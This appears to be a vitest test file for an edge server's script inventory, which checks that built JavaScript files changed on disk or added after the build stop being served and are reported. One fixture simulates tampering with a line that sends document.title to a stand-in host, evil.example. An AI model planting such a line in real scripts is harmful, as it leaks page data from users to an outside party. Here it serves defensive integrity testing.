import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync } from 'node:zlib';
import { beforeEach, expect, it, onTestFinished } from 'vitest';
import { scriptInventory, scriptsIn } from './script-inventory.ts';
import { testEdge } from '../testing/test-edge.ts';

let folder: string;
let told: string[];
const write = (name: string, text: string | Buffer) => writeFileSync(join(folder, name), text);
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'edge-scripts-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  mkdirSync(join(folder, 'assets/payments-library'), { recursive: true });
  write('assets/index.js', 'export {};');
  write('assets/index.js.br', brotliCompressSync('export {};'));
  write('assets/payments-library/1.0.0.js', 'export const pay = 1;');
  write('assets/style.css', 'a{}');
  write('sw.js', 'self;');
  told = [];
});
const open = () => scriptInventory(folder, scriptsIn(folder), script => told.push(script));
const askOf = (scripts: ReturnType<typeof open>) => {
  const edge = testEdge({ clientFolder: folder, scripts });
  return async (path: string, encoding = 'identity') =>
    (await edge.send(path, { headers: { 'accept-encoding': encoding } })).status;
};

it("a build's inventory lists its scripts in every form, and no other files [A29]", () => {
  expect(Object.keys(scriptsIn(folder))).toEqual([
    'assets/index.js',
    'assets/index.js.br',
    'assets/payments-library/1.0.0.js',
    'sw.js',
  ]);
});

it('scripts that are unchanged since the build are served, and files other than scripts are not checked [A29]', async () => {
  const scripts = open();
  const ask = askOf(scripts);
  for (const path of ['/assets/index.js', '/assets/payments-library/1.0.0.js', '/sw.js', '/assets/style.css'])
    expect(await ask(path)).toBe(200);
  expect(await ask('/assets/index.js', 'br')).toBe(200);
  write('assets/style.css', 'b{}');
  expect(await ask('/assets/style.css')).toBe(200);
  // No browser runs a source map.
  write('assets/index.js.map', '{}');
  expect([scripts.check(), told]).toEqual([[], []]);
});

it.each([
  ['a script', 'assets/payments-library/1.0.0.js', '/assets/payments-library/1.0.0.js'],
  ['the compressed form of one', 'assets/index.js.br', '/assets/index.js'],
  ['the worker', 'sw.js', '/sw.js'],
])('stops serving %s once it is changed on disk, and reports the change once [A29]', async (_what, name, path) => {
  const ask = askOf(open());
  expect(await ask(path)).toBe(200);
  write(name, 'fetch("https://evil.example/?" + document.title);');
  expect([await ask(path), await ask(path, 'br'), await ask(path)]).toEqual([404, 404, 404]);
  expect(told).toEqual([name]);
});

it('a full check detects a changed script with the same size and time, and the script is served again once it is restored [A29]', async () => {
  const scripts = open();
  const ask = askOf(scripts);
  const moment = new Date('2026-11-20T12:00:00Z');
  const touch = () => utimesSync(join(folder, 'sw.js'), moment, moment);
  touch();
  expect(await ask('/sw.js')).toBe(200);
  write('sw.js', 'evil;');
  touch();
  // A request does not make the edge read a file whose time and size are unchanged.
  expect(await ask('/sw.js')).toBe(200);
  expect([scripts.check(), scripts.check()]).toEqual([['sw.js'], ['sw.js']]);
  expect(await ask('/sw.js')).toBe(404);
  write('sw.js', 'self;');
  expect([scripts.check(), await ask('/sw.js'), told]).toEqual([[], 200, ['sw.js']]);
});

it('a script that is not part of the build is not served [A29]', async () => {
  const scripts = open();
  write('assets/more.js', 'evil;');
  expect([scripts.check(), await askOf(scripts)('/assets/more.js'), told]).toEqual([
    ['assets/more.js'],
    404,
    ['assets/more.js'],
  ]);
});
